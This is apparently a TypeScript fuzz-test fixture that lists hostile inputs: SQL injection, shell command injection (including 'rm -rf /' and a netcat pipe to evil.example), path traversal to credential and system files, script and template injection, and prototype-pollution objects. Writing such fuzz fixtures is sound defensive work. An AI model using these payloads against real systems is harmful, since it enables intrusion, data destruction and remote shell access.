// Malformed and hostile values for the fuzz tests (test/security/fuzz.test.ts, e2e/security.spec.ts):
// long strings, wrong types, shell metacharacters, SQL fragments, path traversal, huge numbers,
// unicode, NUL bytes, nulls, arrays and objects where a scalar belongs.

export const HOSTILE_STRINGS: string[] = [
  "",
  "   ",
  "\t\r\n",
  "a".repeat(5_000),
  "é".repeat(70_000),
  "'; drop table machines; --",
  "' or '1'='1",
  "1; select pg_sleep(10)--",
  "$(reboot)",
  "`id`",
  "; rm -rf / #",
  "| nc evil.example 4444 &&",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "\u0000",
  "abc\u0000def",
  "\ud800",
  "\u202eevil\u202c",
  "👩‍👩‍👧‍👦".repeat(30),
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally.
  "${7*7}{{7*7}}",
  "-1",
  "1e400",
  "99999999999999999999999999999",
  "NaN",
  "null",
];

export const HOSTILE_NON_STRINGS: unknown[] = [
  -1,
  0,
  1.5,
  1e308,
  -1e308,
  2 ** 63,
  Number.MAX_SAFE_INTEGER + 2,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  null,
  undefined,
  true,
  false,
  [],
  ["a"],
  [1, 2],
  {},
  { $gt: "" },
  { __proto__: { admin: true } },
];

export const HOSTILE: unknown[] = [...HOSTILE_STRINGS, ...HOSTILE_NON_STRINGS];

/** A short label for a value in a failure message. */
export function label(v: unknown): string {
  if (typeof v === "string") return JSON.stringify(v.length > 40 ? `${v.slice(0, 20)}…(${v.length})` : v);
  if (typeof v === "number") return String(v);
  try {
    return JSON.stringify(v) ?? String(v);
  } catch {
    return String(v);
  }
}
